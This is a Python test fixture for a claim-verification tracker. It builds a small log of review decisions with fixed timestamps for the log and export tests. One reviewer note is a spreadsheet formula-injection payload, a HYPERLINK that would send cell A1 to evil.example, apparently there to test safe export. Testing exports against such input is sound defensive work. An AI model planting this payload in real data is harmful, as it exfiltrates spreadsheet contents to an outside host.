"""A small verification log on the seeds, with fixed times: shared by the log and export tests."""

from __future__ import annotations

import datetime as dt
from dataclasses import dataclass
from pathlib import Path

from tracker.model import ClaimFilter, MarkResult, Status
from tracker.ops.claims import list_claims
from tracker.ops.ingest import ingest
from tracker.ops.review import mark_claim
from tracker.store import Store

T0 = dt.datetime(2024, 12, 23, 9, 0, tzinfo=dt.UTC)
HOUR, DAY = dt.timedelta(hours=1), dt.timedelta(days=1)
INJECTION = '=HYPERLINK("https://evil.example/?leak="&A1,"click me")'


@dataclass(frozen=True)
class Log:
    """The claims decided on (a, b, c, d) and every decision, in chain order."""

    a: int
    b: int
    c: int
    d: int
    marks: tuple[MarkResult, ...]


def make_log(store: Store, seeds: Path) -> Log:
    """Ingest the seeds and make six decisions on four claims, a day apart at most."""
    ingest(store, [str(seeds)])
    by_article: dict[int, list[int]] = {}
    for claim in list_claims(store, ClaimFilter()):
        by_article.setdefault(claim.article_id, []).append(claim.id)
    # two claims in each of two articles, so reports group by article
    first, other = [ids for ids in by_article.values() if len(ids) >= 2][:2]
    a, b, c, d = first[0], first[1], other[0], other[1]
    steps = [
        (
            a,
            Status.VERIFIED,
            "ann",
            "Matches the ministry’s “figures”",
            ["https://example.org/mod"],
        ),
        (b, Status.DISPUTED, "bob", INJECTION, []),
        (c, Status.UNVERIFIABLE, "ann", 'No record, "sealed"\nsecond line; comma, quote', []),
        (
            a,
            Status.DISPUTED,
            "cy",
            "-2 dead, not 20 +/- @ann",
            ["https://a.example/1", "https://b.example/2"],
        ),
        (d, Status.VERIFIED, "bob", "", []),
        (c, Status.UNREVIEWED, "ann", "reopened: new documents", []),
    ]
    times = [T0, T0 + HOUR, T0 + DAY, T0 + 2 * DAY, T0 + 3 * DAY, T0 + 4 * DAY]
    marks = tuple(
        mark_claim(store, claim, status, reviewer=who, note=note, evidence=urls, now=at)
        for (claim, status, who, note, urls), at in zip(steps, times, strict=True)
    )
    return Log(a, b, c, d, marks)
